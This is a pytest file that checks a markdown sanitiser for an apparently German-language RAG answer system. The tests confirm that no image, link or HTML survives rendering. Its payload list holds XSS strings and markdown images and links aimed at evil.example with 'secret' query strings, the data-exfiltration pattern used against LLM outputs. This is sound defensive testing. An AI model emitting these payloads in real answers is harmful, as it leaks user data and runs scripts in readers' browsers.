"""The answer sanitiser, checked by rendering: a CommonMark parser must find no image, link or HTML."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from rag.sanitize import sanitize_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/steal?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "[klick](javascript:alert(1))",
    "[klick]( javascript:alert(1) )",
    "[klick](<javascript:alert(1)>)",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klick](http://evil.example/?q=secret)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=http://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<http://evil.example>",
    "[x]: http://evil.example\n[y][x]",
    # found in review: nested and escaped brackets, definitions inside containers, protocol-relative URLs
    "![a [b] c](//evil.example/x.png?q=secret)",
    "![a\\]b](//evil.example/x.png)",
    "![x]\n\n> [x]: //evil.example/x.png",
    "![x]\n\n- [x]: //evil.example/x.png",
    "![a\\]b]\n\n[a\\]b]: //evil.example/x.png",
    "[click [here]](//evil.example/phish)",
    "[1]: http://evil.example/x.png\n\n![1] and [1]",
    "Antwort [1](http://evil.example) [2][3]",
    "![1](http://evil.example/x.png)",
    "&#91;x&#93;(http://evil.example)",
    "\\\\[x](http://evil.example)",
]

_md = MarkdownIt("commonmark")


def _tokens(markdown: str) -> list[str]:
    out = []
    for token in _md.parse(markdown):
        out.append(token.type)
        out.extend(child.type for child in token.children or [])
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_image_link_or_html_survives_rendering(payload: str) -> None:
    rendered = _tokens(sanitize_markdown(f"Antwort [1]. {payload}"))
    assert not {"image", "link_open", "html_inline", "html_block"} & set(rendered)


@pytest.mark.parametrize("payload", ["http://evil.example/track.png", "www.evil.example/x", "javascript:alert(1)"])
def test_bare_urls_that_gfm_would_link_are_shown_as_code(payload: str) -> None:
    assert f"`{payload}`" in sanitize_markdown(f"Siehe {payload} dort")


def test_citation_markers_and_plain_text_are_unchanged() -> None:
    assert sanitize_markdown("Kündigung nach § 622 BGB [2].") == "Kündigung nach § 622 BGB [2]."
    assert sanitize_markdown("24 Werktage [1][3]") in {"24 Werktage [1][3]", "24 Werktage \\[1\\][3]"}


def test_allowlisted_links_stay() -> None:
    text = "Siehe [Intranet](https://intranet.example/hr) und **fett** mit [1]."
    assert sanitize_markdown(text, allowed_hosts={"intranet.example"}) == text
    rendered = _tokens(sanitize_markdown(text, allowed_hosts={"intranet.example"}))
    assert "link_open" in rendered
